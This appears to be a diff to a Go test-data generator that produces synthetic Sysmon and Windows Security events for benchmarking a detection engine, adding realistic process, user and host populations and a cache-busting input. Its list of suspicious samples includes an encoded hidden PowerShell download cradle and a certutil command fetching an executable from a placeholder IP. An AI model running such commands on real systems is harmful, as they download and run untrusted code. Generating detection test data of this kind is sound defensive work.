@@ -10,22 +10,49 @@ import (
 // and index-soundness tests: Sysmon and Security/PowerShell Windows events
 // as Windows-JSON (Sigma field names), and firewall, WAF, web, antivirus and
 // IDS events as flat ECS maps, the way MCPSoc's parsers emit them.
+//
+// Value cardinality follows real logs: images (with their description,
+// product, company and original file name), users, hosts and working
+// directories are drawn from a few hundred values with a skewed (Zipf)
+// distribution, while command lines, hashes, GUIDs and temporary file names
+// are mostly unique. A cache of scan results therefore sees the repetition
+// real logs have, not that of a replayed handful of values.
 type eventGen struct {
-	r *rand.Rand
+	r      *rand.Rand
+	procZ  *rand.Zipf
+	userZ  *rand.Zipf
+	hostZ  *rand.Zipf
+	serial int
 }
 
 func newEventGen(seed uint64) *eventGen {
-	return &eventGen{r: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))}
+	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
+	return &eventGen{
+		r:     r,
+		procZ: rand.NewZipf(r, 1.1, 2, uint64(len(genProcs)-1)),
+		userZ: rand.NewZipf(r, 1.1, 2, uint64(len(genUsers)-1)),
+		hostZ: rand.NewZipf(r, 1.05, 2, uint64(len(genHosts)-1)),
+	}
 }
+
+// proc draws a process image and its version information.
+func (g *eventGen) proc() genProc { return genProcs[g.procZ.Uint64()] }
+
+// user draws an account name (without domain).
+func (g *eventGen) user() string { return genUsers[g.userZ.Uint64()] }
+
+// host draws a computer name.
+func (g *eventGen) host() string { return genHosts[g.hostZ.Uint64()] }
 
 func (g *eventGen) pick(xs []string) string { return xs[g.r.IntN(len(xs))] }
 
+type genProc struct{ image, desc, product, company, orig string }
+
+const genSysDir = `C:\Windows\System32\`
+
 var (
-	genUsers   = []string{"alice", "bob", "carol", "dave", "svc_backup", "svc_sql", "Administrator"}
-	genHosts   = []string{"WS-0142.corp.example", "WS-0977.corp.example", "SRV-FILE01.corp.example", "SRV-SQL02.corp.example", "DC01.corp.example"}
 	genDomains = []string{"www.microsoft.com", "login.microsoftonline.com", "update.googleapis.com", "github.com", "cdn.jsdelivr.net", "intranet.corp.example", "files.corp.example", "api.slack.com"}
-	genSysDir  = `C:\Windows\System32\`
-	genBenign  = []struct{ image, desc, product, company, orig string }{
+	genBenign  = []genProc{
 		{genSysDir + "svchost.exe", "Host Process for Windows Services", "Microsoft® Windows® Operating System", "Microsoft Corporation", "svchost.exe"},
 		{genSysDir + "conhost.exe", "Console Window Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "CONHOST.EXE"},
 		{genSysDir + "RuntimeBroker.exe", "Runtime Broker", "Microsoft® Windows® Operating System", "Microsoft Corporation", "RuntimeBroker.exe"},
@@ -43,6 +70,95 @@ var (
 		{genSysDir + "cmd.exe", "Windows Command Processor", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Cmd.Exe"},
 		{genSysDir + "wbem\\WmiPrvSE.exe", "WMI Provider Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Wmiprvse.exe"},
 	}
+	// genProcs is the process population, most frequent first: the
+	// common processes above, more Windows binaries, installed software,
+	// and per-user installs (one image per user and application).
+	genProcs = func() []genProc {
+		out := append([]genProc(nil), genBenign...)
+		const winProduct, ms = "Microsoft® Windows® Operating System", "Microsoft Corporation"
+		for _, p := range [][2]string{
+			{"lsass.exe", "Local Security Authority Process"}, {"services.exe", "Services and Controller app"},
+			{"explorer.exe", "Windows Explorer"}, {"winlogon.exe", "Windows Logon Application"},
+			{"sihost.exe", "Shell Infrastructure Host"}, {"ctfmon.exe", "CTF Loader"},
+			{"smartscreen.exe", "Windows Defender SmartScreen"}, {"spoolsv.exe", "Spooler SubSystem App"},
+			{"WUDFHost.exe", "Windows Driver Foundation - User-mode Driver Framework Host Process"},
+			{"audiodg.exe", "Windows Audio Device Graph Isolation"}, {"fontdrvhost.exe", "Usermode Font Driver Host"},
+			{"dwm.exe", "Desktop Window Manager"}, {"SearchIndexer.exe", "Microsoft Windows Search Indexer"},
+			{"SearchFilterHost.exe", "Microsoft Windows Search Filter Host"}, {"MoUsoCoreWorker.exe", "MoUSO Core Worker Process"},
+			{"TiWorker.exe", "Windows Modules Installer Worker"}, {"TrustedInstaller.exe", "Windows Modules Installer"},
+			{"wermgr.exe", "Windows Problem Reporting"}, {"WerFault.exe", "Windows Problem Reporting"},
+			{"consent.exe", "Consent UI for administrative applications"}, {"msiexec.exe", "Windows® installer"},
+			{"gpupdate.exe", "Microsoft® Windows Group Policy Update Utility"}, {"rundll32.exe", "Windows host process (Rundll32)"},
+			{"regsvr32.exe", "Microsoft(C) Register Server"}, {"schtasks.exe", "Task Scheduler Configuration Tool"},
+			{"sc.exe", "Service Control Manager Configuration Tool"}, {"net.exe", "Net Command"}, {"net1.exe", "Net Command"},
+			{"ipconfig.exe", "IP Configuration Utility"}, {"PING.EXE", "TCP/IP Ping Command"},
+			{"whoami.exe", "whoami - displays logged on user information"}, {"tasklist.exe", "Lists the current running tasks."},
+			{"findstr.exe", "Find String (QGREP) Utility"}, {"reg.exe", "Registry Console Tool"},
+			{"certutil.exe", "CertUtil.exe"}, {"wevtutil.exe", "Eventing Command Line Utility"},
+			{"mmc.exe", "Microsoft Management Console"}, {"notepad.exe", "Notepad"}, {"mstsc.exe", "Remote Desktop Connection"},
+			{"CompPkgSrv.exe", "Component Package Support Server"}, {"UserOOBEBroker.exe", "User OOBE Broker"},
+			{"ApplicationFrameHost.exe", "Application Frame Host"}, {"LogonUI.exe", "Windows Logon User Interface Host"},
+			{"DeviceCensus.exe", "Device Census"}, {"CompatTelRunner.exe", "Microsoft Compatibility Telemetry"},
+			{"sppsvc.exe", "Microsoft Software Protection Platform Service"}, {"VSSVC.exe", "Microsoft® Volume Shadow Copy Service"},
+			{"wsqmcons.exe", "Windows SQM Consolidator"}, {"taskmgr.exe", "Task Manager"}, {"cleanmgr.exe", "Disk Space Cleanup Manager for Windows"},
+		} {
+			out = append(out, genProc{genSysDir + p[0], p[1], winProduct, ms, p[0]})
+		}
+		for _, p := range []genProc{
+			{`C:\Program Files\Mozilla Firefox\firefox.exe`, "Firefox", "Firefox", "Mozilla Corporation", "firefox.exe"},
+			{`C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe`, "Adobe Acrobat", "Adobe Acrobat", "Adobe Inc.", "Acrobat.exe"},
+			{`C:\Program Files\Common Files\Adobe\ARM\1.0\AdobeARM.exe`, "Adobe Reader and Acrobat Manager", "Adobe Reader and Acrobat Manager", "Adobe Inc.", "AdobeARM.exe"},
+			{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "Microsoft Word", "Microsoft Office", "Microsoft Corporation", "WinWord.exe"},
+			{`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, "Microsoft Excel", "Microsoft Office", "Microsoft Corporation", "Excel.exe"},
+			{`C:\Program Files\Microsoft Office\root\Office16\POWERPNT.EXE`, "Microsoft PowerPoint", "Microsoft Office", "Microsoft Corporation", "POWERPNT.EXE"},
+			{`C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeClickToRun.exe`, "Microsoft Office Click-to-Run", "Microsoft Office", "Microsoft Corporation", "OfficeClickToRun.exe"},
+			{`C:\Program Files\7-Zip\7z.exe`, "7-Zip Console", "7-Zip", "Igor Pavlov", "7z.exe"},
+			{`C:\Program Files\Python312\python.exe`, "Python", "Python", "Python Software Foundation", "python.exe"},
+			{`C:\Program Files\Docker\Docker\resources\com.docker.backend.exe`, "Docker Desktop Backend", "Docker Desktop", "Docker Inc.", "com.docker.backend.exe"},
+			{`C:\Program Files\VMware\VMware Tools\vmtoolsd.exe`, "VMware Tools Core Service", "VMware Tools", "VMware, Inc.", "vmtoolsd.exe"},
+			{`C:\Program Files\Citrix\ICA Client\wfica32.exe`, "Citrix Workspace Engine", "Citrix Workspace", "Citrix Systems, Inc.", "wfica32.exe"},
+			{`C:\Program Files\Cisco\Cisco Secure Client\vpnagent.exe`, "Cisco Secure Client - VPN Agent", "Cisco Secure Client", "Cisco Systems, Inc.", "vpnagent.exe"},
+			{`C:\Program Files\Intel\Intel(R) Management Engine Components\LMS\LMS.exe`, "Local Manageability Service", "Intel(R) Management Engine Components", "Intel Corporation", "LMS.exe"},
+			{`C:\Program Files\NVIDIA Corporation\NvContainer\nvcontainer.exe`, "NVIDIA Container", "NVIDIA Container", "NVIDIA Corporation", "nvcontainer.exe"},
+			{`C:\Program Files\Realtek\Audio\HDA\RtkAudUService64.exe`, "Realtek HD Audio Universal Service", "Realtek HD Audio Universal Service", "Realtek Semiconductor", "RtkAudUService64.exe"},
+			{`C:\Program Files\JetBrains\IntelliJ IDEA 2024.3\bin\idea64.exe`, "IntelliJ IDEA", "IntelliJ IDEA", "JetBrains s.r.o.", "idea64.exe"},
+			{`C:\Program Files\Java\jdk-21\bin\java.exe`, "OpenJDK Platform binary", "OpenJDK Platform 21", "Oracle Corporation", "java.exe"},
+			{`C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe`, "SQL Server Windows NT - 64 Bit", "Microsoft SQL Server", "Microsoft Corporation", "sqlservr.exe"},
+			{`C:\Program Files\Zoom\bin\Zoom.exe`, "Zoom Meetings", "Zoom Meetings", "Zoom Video Communications, Inc.", "Zoom.exe"},
+		} {
+			out = append(out, p)
+		}
+		apps := []struct{ dir, exe, desc, company string }{
+			{`AppData\Local\Microsoft\Teams\current`, "Teams.exe", "Microsoft Teams", "Microsoft Corporation"},
+			{`AppData\Local\slack\app-4.41.105`, "slack.exe", "Slack", "Slack Technologies, LLC"},
+			{`AppData\Local\Programs\Microsoft VS Code`, "Code.exe", "Visual Studio Code", "Microsoft Corporation"},
+			{`AppData\Local\Microsoft\OneDrive`, "OneDrive.exe", "Microsoft OneDrive", "Microsoft Corporation"},
+			{`AppData\Roaming\Spotify`, "Spotify.exe", "Spotify", "Spotify Ltd"},
+			{`AppData\Local\Discord\app-1.0.9170`, "Discord.exe", "Discord", "Discord Inc."},
+		}
+		for i := 0; i < 48; i++ {
+			for _, a := range apps {
+				out = append(out, genProc{`C:\Users\` + genUsers[i] + `\` + a.dir + `\` + a.exe, a.desc, a.desc, a.company, a.exe})
+			}
+		}
+		return out
+	}()
+	genUsers = func() []string {
+		first := []string{"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter", "yara"}
+		last := []string{"smith", "jones", "miller", "davis", "garcia", "wilson", "moore", "taylor", "thomas", "white", "martin", "clark", "lewis", "walker", "young"}
+		out := []string{"svc_backup", "svc_sql", "Administrator", "SYSTEM"}
+		for i := range len(first) * len(last) {
+			out = append(out, first[i%len(first)]+"."+last[i/len(first)])
+		}
+		return out
+	}()
+	genHosts = func() []string {
+		out := []string{"DC01.corp.example", "SRV-FILE01.corp.example", "SRV-SQL02.corp.example"}
+		for i := range 200 {
+			out = append(out, fmt.Sprintf("WS-%04d.corp.example", 100+i*37%9000))
+		}
+		return out
+	}()
 	genSuspicious = []struct{ image, cmd, parent string }{
 		{genSysDir + `WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`},
 		{genSysDir + "certutil.exe", `certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\Users\Public\p.exe`, genSysDir + "cmd.exe"},
@@ -77,7 +193,7 @@ func (g *eventGen) ip(private bool) string {
 	return fmt.Sprintf("%d.%d.%d.%d", 23+g.r.IntN(180), g.r.IntN(256), g.r.IntN(256), 1+g.r.IntN(254))
 }
 
-func (g *eventGen) userDir() string { return `C:\Users\` + g.pick(genUsers[:4]) }
+func (g *eventGen) userDir() string { return `C:\Users\` + g.user() }
 
 func (g *eventGen) benignCmd(image string) string {
 	base := image[strings.LastIndexByte(image, '\\')+1:]
@@ -91,20 +207,32 @@ func (g *eventGen) benignCmd(image string) string {
 	case "node.exe":
 		return `node.exe ` + g.userDir() + `\src\app\node_modules\.bin\` + g.pick([]string{"tsc", "eslint", "jest"}) + " --watch"
 	case "powershell.exe":
-		return `powershell.exe -NoProfile -File C:\ProgramData\Scripts\inventory.ps1 -Computer ` + g.pick(genHosts)
+		return `powershell.exe -NoProfile -File C:\ProgramData\Scripts\inventory.ps1 -Computer ` + g.host()
 	case "cmd.exe":
 		return `C:\Windows\system32\cmd.exe /c "` + g.pick([]string{"echo %PATH%", "dir " + g.userDir() + `\Documents`, "type nul > lock.tmp", "npm run build"}) + `"`
 	case "conhost.exe":
 		return `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`
 	}
-	return `"` + image + `"`
+	// Other processes: a third start with the bare image; the others
+	// carry arguments that rarely repeat (documents, sessions, ids).
+	switch g.r.IntN(6) {
+	case 0, 1:
+		return `"` + image + `"`
+	case 2:
+		return `"` + image + `" "` + g.userDir() + `\Documents\` + g.pick([]string{"report", "budget", "notes", "minutes", "plan"}) + "-" + g.hex(6) + g.pick([]string{".docx", ".xlsx", ".pdf", ".txt"}) + `"`
+	case 3:
+		return `"` + image + `" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=` + fmt.Sprint(1000+g.r.IntN(9000)) + ` --field-trial-handle=` + g.hex(8) + `,i,` + g.hex(16)
+	case 4:
+		return `"` + image + `" /processid:` + g.guid() + ` -Embedding`
+	}
+	return `"` + image + `" -ServerName:` + g.pick([]string{"App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca", "CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca", "Windows.Internal.WaaSMedicAgent"}) + " " + g.hex(12)
 }
 
 func (g *eventGen) base(id int64, channel string) map[string]any {
 	m := map[string]any{
 		"EventID":     id,
 		"Channel":     channel,
-		"Computer":    g.pick(genHosts),
+		"Computer":    g.host(),
 		"UtcTime":     fmt.Sprintf("2026-11-21 %02d:%02d:%02d.%03d", g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(1000)),
 		"ProcessGuid": g.guid(),
 		"ProcessId":   int64(1000 + g.r.IntN(30000)),
@@ -119,8 +247,7 @@ const sysmonChannel = "Microsoft-Windows-Sysmon/Operational"
 
 func (g *eventGen) processCreation() map[string]any {
 	m := g.base(1, sysmonChannel)
-	b := genBenign[g.r.IntN(len(genBenign))]
-	p := genBenign[g.r.IntN(len(genBenign))]
+	b, p := g.proc(), g.proc()
 	image, cmd, parent := b.image, g.benignCmd(b.image), p.image
 	if g.r.IntN(100) == 0 {
 		s := genSuspicious[g.r.IntN(len(genSuspicious))]
@@ -135,14 +262,14 @@ func (g *eventGen) processCreation() map[string]any {
 	m["Company"] = b.company
 	m["OriginalFileName"] = b.orig
 	m["FileVersion"] = "10.0.22621.1 (WinBuild.160101.0800)"
-	m["CurrentDirectory"] = g.pick([]string{genSysDir, g.userDir() + `\`, `C:\Windows\`})
-	m["User"] = "CORP\\" + g.pick(genUsers)
+	m["CurrentDirectory"] = g.pick([]string{genSysDir, g.userDir() + `\`, `C:\Windows\`, image[:strings.LastIndexByte(image, '\\')+1]})
+	m["User"] = "CORP\\" + g.user()
 	m["LogonId"] = "0x" + g.hex(6)
 	m["IntegrityLevel"] = g.pick([]string{"Medium", "High", "System"})
 	m["Hashes"] = "SHA1=" + g.hex(40) + ",MD5=" + g.hex(32) + ",SHA256=" + g.hex(64) + ",IMPHASH=" + g.hex(32)
 	m["ParentProcessGuid"] = g.guid()
 	m["ParentProcessId"] = int64(500 + g.r.IntN(20000))
-	m["ParentUser"] = "CORP\\" + g.pick(genUsers)
+	m["ParentUser"] = "CORP\\" + g.user()
 	return m
 }
 
@@ -152,7 +279,7 @@ func (g *eventGen) securityProcess() map[string]any {
 	m["NewProcessName"] = pc["Image"]
 	m["CommandLine"] = pc["CommandLine"]
 	m["ParentProcessName"] = pc["ParentImage"]
-	m["SubjectUserName"] = g.pick(genUsers)
+	m["SubjectUserName"] = g.user()
 	m["SubjectDomainName"] = "CORP"
 	m["TokenElevationType"] = "%%1936"
 	m["MandatoryLabel"] = "S-1-16-8192"
@@ -161,12 +288,12 @@ func (g *eventGen) securityProcess() map[string]any {
 
 func (g *eventGen) networkConnection() map[string]any {
 	m := g.base(3, sysmonChannel)
-	m["Image"] = genBenign[g.r.IntN(len(genBenign))].image
-	m["User"] = "CORP\\" + g.pick(genUsers)
+	m["Image"] = g.proc().image
+	m["User"] = "CORP\\" + g.user()
 	m["Protocol"] = "tcp"
 	m["Initiated"] = "true"
 	m["SourceIp"] = g.ip(true)
-	m["SourceHostname"] = g.pick(genHosts)
+	m["SourceHostname"] = g.host()
 	m["SourcePort"] = int64(49152 + g.r.IntN(16000))
 	m["DestinationIp"] = g.ip(g.r.IntN(3) == 0)
 	m["DestinationHostname"] = g.pick(genDomains)
@@ -177,17 +304,17 @@ func (g *eventGen) networkConnection() map[string]any {
 
 func (g *eventGen) fileEvent() map[string]any {
 	m := g.base(11, sysmonChannel)
-	m["Image"] = genBenign[g.r.IntN(len(genBenign))].image
+	m["Image"] = g.proc().image
 	m["TargetFilename"] = g.userDir() + g.pick([]string{`\AppData\Local\Temp\`, `\Downloads\`, `\AppData\Roaming\Microsoft\Windows\Recent\`, `\Documents\`}) + g.pick([]string{"report", "setup", "tmp" + g.hex(4), "invoice", "notes"}) + g.pick([]string{".docx", ".tmp", ".lnk", ".exe", ".zip", ".pdf"})
 	m["CreationUtcTime"] = m["UtcTime"]
-	m["User"] = "CORP\\" + g.pick(genUsers)
+	m["User"] = "CORP\\" + g.user()
 	return m
 }
 
 func (g *eventGen) registrySet() map[string]any {
 	m := g.base(13, sysmonChannel)
 	m["EventType"] = "SetValue"
-	m["Image"] = genBenign[g.r.IntN(len(genBenign))].image
+	m["Image"] = g.proc().image
 	m["TargetObject"] = g.pick([]string{
 		`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive`,
 		`HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx`,
@@ -200,7 +327,7 @@ func (g *eventGen) registrySet() map[string]any {
 
 func (g *eventGen) imageLoad() map[string]any {
 	m := g.base(7, sysmonChannel)
-	m["Image"] = genBenign[g.r.IntN(len(genBenign))].image
+	m["Image"] = g.proc().image
 	m["ImageLoaded"] = genSysDir + g.pick([]string{"ntdll.dll", "kernel32.dll", "KernelBase.dll", "combase.dll", "bcrypt.dll", "winhttp.dll", "amsi.dll", "clr.dll"})
 	m["Signed"] = "true"
 	m["Signature"] = "Microsoft Windows"
@@ -211,7 +338,7 @@ func (g *eventGen) imageLoad() map[string]any {
 
 func (g *eventGen) dnsQuery() map[string]any {
 	m := g.base(22, sysmonChannel)
-	m["Image"] = genBenign[g.r.IntN(len(genBenign))].image
+	m["Image"] = g.proc().image
 	m["QueryName"] = g.pick(genDomains)
 	m["QueryStatus"] = "0"
 	m["QueryResults"] = "type:  5 " + g.pick(genDomains) + ";::ffff:" + g.ip(false) + ";"
@@ -233,11 +360,11 @@ func (g *eventGen) psScript() map[string]any {
 
 func (g *eventGen) logon() map[string]any {
 	m := g.base(4624, "Security")
-	m["TargetUserName"] = g.pick(genUsers)
+	m["TargetUserName"] = g.user()
 	m["TargetDomainName"] = "CORP"
 	m["LogonType"] = int64([]int{2, 3, 3, 3, 10, 5}[g.r.IntN(6)])
 	m["IpAddress"] = g.ip(true)
-	m["WorkstationName"] = strings.Split(g.pick(genHosts), ".")[0]
+	m["WorkstationName"] = strings.Split(g.host(), ".")[0]
 	m["AuthenticationPackageName"] = g.pick([]string{"Kerberos", "NTLM", "Negotiate"})
 	m["LogonProcessName"] = "User32"
 	return m
@@ -340,4 +467,27 @@ func genEvents(n int, seed uint64, kind func(*eventGen) map[string]any) []map[st
 		out[i] = kind(g)
 	}
 	return out
+}
+
+// routingFields are the fields the default routing table reads; mixedUnique
+// leaves them alone so its events reach the same rules.
+var routingFields = map[string]bool{
+	"Channel": true, "EventID": true, "Provider_Name": true, "event.module": true,
+	"event.dataset": true, "event.category": true, "observer.product": true,
+}
+
+// mixedUnique is the adversarial input for caches of scan results: mixed
+// events in which every other string value carries, in its middle, a token
+// no other event has (its prefix and suffix, where anchored literals are
+// looked for, are kept), so no value ever repeats.
+func (g *eventGen) mixedUnique() map[string]any {
+	m := g.mixed()
+	g.serial++
+	tok := fmt.Sprintf("~%x~", g.serial)
+	for k, v := range m {
+		if s, ok := v.(string); ok && !routingFields[k] {
+			m[k] = s[:len(s)/2] + tok + s[len(s)/2:]
+		}
+	}
+	return m
 }
